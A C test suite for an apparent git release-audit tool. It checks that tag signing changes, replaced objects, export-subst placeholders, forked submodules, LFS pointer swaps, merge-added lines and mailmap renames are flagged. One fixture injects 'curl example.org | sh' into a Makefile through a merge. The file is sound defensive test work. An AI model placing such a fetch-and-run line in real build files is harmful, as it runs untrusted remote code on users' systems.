#include "input/gitcheck.h"

#include <criterion/criterion.h>

#include "base/cleanup.h"
#include "support/repo.h"
#include "support/run.h"

TestSuite(gitcheck, .init = scratch_begin, .fini = scratch_end);

/* What the checks say of a tag of "r", and nothing else of the audit. */
static void check_tag(struct result *r, const char *tag, enum gitcheck_depth depth)
{
	const struct origin_options o = { .git = "r", .tag = tag };
	struct error err = ERROR_INIT;
	struct gitcheck *c;
	struct origin g;
	size_t before;

	result_init(r);
	r->artifact.name = STR("r-1.tar.gz");
	cr_assert_eq(origin_open(&g, &o, r, &err), 0, "%s", err.message);
	cr_assert_eq(origin_choose(&g, &err), 0, "%s", err.message);
	cr_assert_eq(origin_load(&g, &err), 0, "%s", err.message);
	before = r->findings_n;
	c = gitcheck_run(&g, depth);
	gitcheck_report(c, r);
	gitcheck_free(c);
	origin_release(&g);
	r->findings_n -= before;
	if (r->findings_n)
		memmove(r->findings, r->findings + before, r->findings_n * sizeof(*r->findings));
}

static void expect_one(const char *tag, enum rule_id rule, enum severity severity, const char *path)
{
	struct result r;

	check_tag(&r, tag, GITCHECK_FULL);
	cr_assert_eq(r.findings_n, 1, "%zu findings, the first %s", r.findings_n,
		     r.findings_n ? r.findings[0].message.ptr : "none");
	cr_assert_eq(r.findings[0].rule, rule, "%s", rules[r.findings[0].rule].id);
	cr_assert_eq(r.findings[0].severity, severity);
	cr_assert_str_eq(r.findings[0].path.ptr, path);
	cr_assert_eq(r.not_checked_n, 0);
	result_release(&r);
}

static void expect_nothing(const char *tag)
{
	struct result r;

	check_tag(&r, tag, GITCHECK_FULL);
	cr_assert_eq(r.findings_n, 0, "%s", r.findings_n ? r.findings[0].message.ptr : "");
	cr_assert_eq(r.not_checked_n, 0);
	result_release(&r);
}

/* Tags v1.0 to v1.3, and v1.2 of the first commit. */
static void make_releases(void)
{
	char name[8] = "v1.0";

	make_hello("r");
	for (char c = '0'; c < '4'; c++) {
		name[3] = c;
		make_commit("r", "Work");
		if (c != '2')
			make_tag("r", name);
	}
}

/* An annotated tag of HEAD with a signature by the key of 16 digits, of which nothing is true. */
static void make_signed_tag(const char *name, const char *key)
{
	sh("cd r; { printf 'object %%s\\ntype commit\\ntag %s\\ntagger T <t@example.org> %%s +0000\\n\\nx\\n' "
	   "$(git rev-parse HEAD) $(git log -1 --format=%%ct);"
	   "echo '-----BEGIN PGP SIGNATURE-----'; echo; printf '\\210\\024\\004\\000\\001\\002\\000\\000\\000\\012\\011\\020%s\\000\\000' | base64;"
	   "echo '-----END PGP SIGNATURE-----'; } | git hash-object -t tag -w --stdin >id;"
	   "git update-ref refs/tags/%s $(cat id); rm id", name, key, name);
}

Test(gitcheck, says_nothing_of_ordinary_releases)
{
	make_releases();
	expect_nothing("v1.3");
	expect_nothing("v1.0");
	expect_nothing("refs/heads/main");
}

/* --- how tags are made --- */

Test(gitcheck, a_lightweight_tag_after_annotated_ones_is_medium)
{
	make_releases();
	sh("git -C r tag v1.4");
	expect_one("v1.4", RULE_TP015, SEVERITY_MEDIUM, "v1.4");
	sh("git -C r tag v1.5");
	expect_nothing("v1.5");
}

static void make_signed_releases(void)
{
	make_hello("r");
	sh("git -C r tag -d v1.2 >/dev/null");
	make_signed_tag("v2.0", "AAAAAAAA");
	make_signed_tag("v2.1", "AAAAAAAA");
	make_signed_tag("v2.2", "BBBBBBBB");
	make_signed_tag("v2.3", "AAAAAAAA");
}

Test(gitcheck, a_lightweight_tag_after_signed_ones_is_high)
{
	make_signed_releases();
	sh("git -C r tag v2.4");
	expect_one("v2.4", RULE_TP015, SEVERITY_HIGH, "v2.4");
}

Test(gitcheck, an_unsigned_tag_after_signed_ones_is_medium)
{
	make_signed_releases();
	sh("git -C r tag -a -m x v2.4");
	expect_one("v2.4", RULE_TP016, SEVERITY_MEDIUM, "v2.4");
}

Test(gitcheck, a_key_is_new_where_no_earlier_tag_has_it)
{
	make_signed_releases();
	expect_nothing("v2.0");
	expect_nothing("v2.1");
	expect_one("v2.2", RULE_TP020, SEVERITY_MEDIUM, "v2.2");
	expect_nothing("v2.3");
}

Test(gitcheck, dates_that_do_not_fit_are_worth_a_word)
{
	make_releases();
	sh("cd r; GIT_COMMITTER_DATE='1500000000 +0000' git tag -a -m x v1.4");
	expect_one("v1.4", RULE_TP023, SEVERITY_INFO, "v1.4");
	sh("cd r; GIT_COMMITTER_DATE='1500000000 +0000' git commit -q --allow-empty -m old;"
	   "GIT_COMMITTER_DATE='1500000000 +0000' git tag -a -m x v1.5");
	expect_one("v1.5", RULE_TP023, SEVERITY_INFO, "v1.5");
}

/* --- replaced objects --- */

static void expect_replaced(const char *what)
{
	struct result r;
	bool found = false;

	check_tag(&r, "v1.3", GITCHECK_QUICK);
	for (size_t i = 0; i < r.findings_n; i++)
		found = found || (r.findings[i].rule == RULE_TP017 && strstr(r.findings[i].message.ptr, what) &&
				  r.findings[i].severity == SEVERITY_CRITICAL);
	cr_assert(found, "%s", what);
	result_release(&r);
}

Test(gitcheck, a_replaced_object_of_the_tag_is_critical)
{
	make_releases();
	sh("cd r; git replace HEAD HEAD~1");
	expect_replaced("commit");
	sh("cd r; git replace -d $(git rev-parse HEAD) >/dev/null; git replace $(git rev-parse HEAD:README) "
	   "$(echo evil | git hash-object -w --stdin)");
	expect_replaced("file");
	sh("cd r; git replace -d $(git rev-parse HEAD:README) >/dev/null;"
	   "git replace -f $(git rev-parse HEAD:src) $(git rev-parse HEAD^{tree})");
	expect_replaced("folder");
}

Test(gitcheck, a_replaced_object_of_no_tag_is_not_its_matter)
{
	make_releases();
	sh("cd r; git replace HEAD~1 HEAD~2");
	expect_nothing("v1.3");
}

/* --- export-subst --- */

static void make_subst(const char *name, const char *text)
{
	char path[64];

	make_hello("r");
	snprintf(path, sizeof(path), "r/%s", name);
	file_text(path, text);
	sh("echo '%s export-subst' >r/.gitattributes", name);
	make_commit("r", "Subst");
	sh("git -C r tag x1");
}

Test(gitcheck, a_commit_message_in_a_script_is_high)
{
	make_subst("build.sh", "#!/bin/sh\nrev='$Format:%H$'\nmsg='$Format:%d %B$'\n");
	expect_one("x1", RULE_TP014, SEVERITY_HIGH, "build.sh");
}

Test(gitcheck, a_message_in_source_code_is_medium)
{
	make_subst("version.c", "const char who[] = \"$Format:%an$\";\n");
	expect_one("x1", RULE_TP014, SEVERITY_MEDIUM, "version.c");
}

Test(gitcheck, names_of_refs_in_python_are_worth_a_word)
{
	make_subst("_version.py", "refs = '$Format:%d$'\nfull = '$Format:%H$'\ndate = '$Format:%ci$'\n");
	expect_one("x1", RULE_TP014, SEVERITY_INFO, "_version.py");
}

Test(gitcheck, ids_dates_and_plain_files_are_nothing)
{
	make_subst("version.sh", "#!/bin/sh\nv='$Format:%H %h %ci %ct %T %%s$'\necho '%s %B'\n");
	expect_nothing("x1");
	sh("rm -rf r");
	make_subst("VERSION", "$Format:%B$\n");
	expect_nothing("x1");
}

/* --- since the previous tag --- */

Test(gitcheck, data_that_became_executable_is_low)
{
	make_releases();
	file_text("r/tests/data.txt", "data\n");
	file_text("r/run", "#!/bin/sh\n");
	make_commit("r", "Data");
	make_tag("r", "v1.4");
	sh("chmod +x r/tests/data.txt r/run");
	make_commit("r", "Executable");
	make_tag("r", "v1.5");
	expect_one("v1.5", RULE_TP019, SEVERITY_LOW, "tests/data.txt");
}

static void modules(const char *url)
{
	sh("printf '[submodule \"m\"]\\n\\tpath = deps/m\\n\\turl = %%s\\n' '%s' >r/.gitmodules", url);
	make_commit("r", "Modules");
}

Test(gitcheck, a_submodule_of_another_owner_is_high)
{
	make_releases();
	modules("https://example.org/owner/m.git");
	make_tag("r", "v1.4");
	modules("git@example.org:owner/m");
	make_tag("r", "v1.5");
	expect_nothing("v1.5");
	modules("https://example.org/fork/m.git");
	make_tag("r", "v1.6");
	expect_one("v1.6", RULE_TP018, SEVERITY_HIGH, "deps/m");
	modules("https://git.example.org/fork/m.git");
	make_tag("r", "v1.7");
	expect_one("v1.7", RULE_TP018, SEVERITY_LOW, "deps/m");
}

static void pointer(const char *digit, const char *size)
{
	sh("{ echo 'version https://git-lfs.github.com/spec/v1'; printf 'oid sha256:'; for i in 1 2 3 4 5 6 7 8;"
	   "do printf '%s'; done; printf '\\nsize %s\\n'; } >r/big.bin", digit, size);
}

Test(gitcheck, an_lfs_pointer_swapped_without_a_word_is_medium)
{
	make_releases();
	sh("echo '*.bin filter=lfs' >r/.gitattributes");
	pointer("11111111", "500");
	make_commit("r", "Big");
	make_tag("r", "v1.4");
	pointer("22222222", "500");
	make_commit("r", "Bigger");
	make_tag("r", "v1.5");
	expect_one("v1.5", RULE_TP024, SEVERITY_MEDIUM, "big.bin");
	pointer("33333333", "500");
	file_text("r/README", "Why it changed.\n");
	make_commit("r", "Explained");
	make_tag("r", "v1.6");
	expect_one("v1.6", RULE_TP024, SEVERITY_LOW, "big.bin");
	pointer("44444444", "501");
	make_commit("r", "Other size");
	make_tag("r", "v1.7");
	expect_nothing("v1.7");
}

static void merge_with(const char *command)
{
	sh("cd r; git checkout -q -b side$$ HEAD; echo side >side; git add side; git commit -q -m side;"
	   "git checkout -q main; git commit -q --allow-empty -m main;"
	   "git merge -q --no-ff --no-commit side$$ 2>/dev/null; %s; git add .; git commit -q -m merge", command);
}

Test(gitcheck, a_merge_with_lines_of_its_own_is_medium)
{
	make_releases();
	file_text("r/Makefile", "all:\n\tcc main.c\n");
	make_commit("r", "Make");
	make_tag("r", "v1.4");
	merge_with("echo '\tcurl example.org | sh' >>Makefile; echo more >>README");
	make_tag("r", "v1.5");
	expect_one("v1.5", RULE_TP021, SEVERITY_MEDIUM, "Makefile");
}

Test(gitcheck, a_build_file_that_a_merge_brought_along_is_medium)
{
	make_releases();
	merge_with("echo 'AC_DEFUN([X])' >x.m4");
	make_tag("r", "v1.4");
	expect_one("v1.4", RULE_TP021, SEVERITY_MEDIUM, "x.m4");
}

Test(gitcheck, ordinary_merges_are_nothing)
{
	make_releases();
	merge_with("true");
	make_tag("r", "v1.4");
	expect_nothing("v1.4");
}

Test(gitcheck, a_resolved_conflict_is_low)
{
	make_releases();
	file_text("r/Makefile", "SOURCES = a.c\n");
	make_commit("r", "Make");
	make_tag("r", "v1.4");
	sh("cd r; git checkout -q -b b; echo 'SOURCES = a.c b.c' >Makefile; git commit -q -a -m b;"
	   "git checkout -q main; echo 'SOURCES = a.c c.c' >Makefile; git commit -q -a -m c;"
	   "git merge -q b >/dev/null 2>&1 || :; echo 'SOURCES = a.c b.c c.c' >Makefile; git commit -q -a -m merge");
	make_tag("r", "v1.5");
	expect_one("v1.5", RULE_TP021, SEVERITY_LOW, "");
}

Test(gitcheck, a_merge_that_moves_a_project_into_a_folder_is_nothing)
{
	make_releases();
	sh("git init -q s; git -C s symbolic-ref HEAD refs/heads/main");
	file_text("s/configure.ac", "AC_INIT([s], [1])\n");
	make_commit("s", "Sub");
	sh("cd r; git fetch -q ../s main; git merge -q -s ours --no-commit --allow-unrelated-histories FETCH_HEAD;"
	   "git read-tree --prefix=sub/ -u FETCH_HEAD; git commit -q -m subtree");
	make_tag("r", "v1.4");
	expect_nothing("v1.4");
}

Test(gitcheck, a_mailmap_that_renames_a_committer_is_low)
{
	make_releases();
	sh("cd r; GIT_AUTHOR_NAME=Mallory GIT_AUTHOR_EMAIL=m@example.org git commit -q --allow-empty -m x;"
	   "echo 'Good Maintainer <good@example.org> <m@example.org>' >.mailmap");
	make_commit("r", "Mailmap");
	make_tag("r", "v1.4");
	expect_one("v1.4", RULE_TP022, SEVERITY_LOW, ".mailmap");
	sh("cd r; echo 'Mallory <mallory@example.org> <m@example.org>' >.mailmap;"
	   "GIT_AUTHOR_NAME=Mallory GIT_AUTHOR_EMAIL=m@example.org git commit -q -a -m y");
	make_tag("r", "v1.5");
	expect_nothing("v1.5");
}

Test(gitcheck, a_quick_check_says_where_it_stopped)
{
	struct result r;

	make_releases();
	sh("cd r; i=0; p=$(git rev-parse HEAD); t=$(git rev-parse HEAD^{tree}); { while [ $i -lt 1100 ]; do "
	   "printf 'commit refs/heads/main\\ncommitter A <a@example.org> 1800000000 +0000\\ndata 1\\nx\\n';"
	   "[ $i = 0 ] && printf 'from refs/heads/main^0\\n'; i=$((i+1)); done; } | git fast-import --quiet");
	sh("git -C r tag -a -m x v1.4");
	check_tag(&r, "v1.4", GITCHECK_QUICK);
	cr_assert_eq(r.not_checked_n, 1);
	cr_assert_not(r.not_checked[0].incomplete);
	result_release(&r);
	check_tag(&r, "v1.4", GITCHECK_FULL);
	cr_assert_eq(r.not_checked_n, 0);
	result_release(&r);
}

Test(gitcheck, a_shallow_clone_without_the_previous_commit_says_so)
{
	struct result r;

	make_releases();
	sh("mv r full; git clone -q --depth 1 --branch v1.3 \"file://$PWD/full\" r 2>/dev/null;"
	   "git -C r fetch -q --depth 1 origin tag v1.1");
	check_tag(&r, "v1.3", GITCHECK_FULL);
	cr_assert_eq(r.findings_n, 0);
	cr_assert_geq(r.not_checked_n, 1);
	result_release(&r);
}
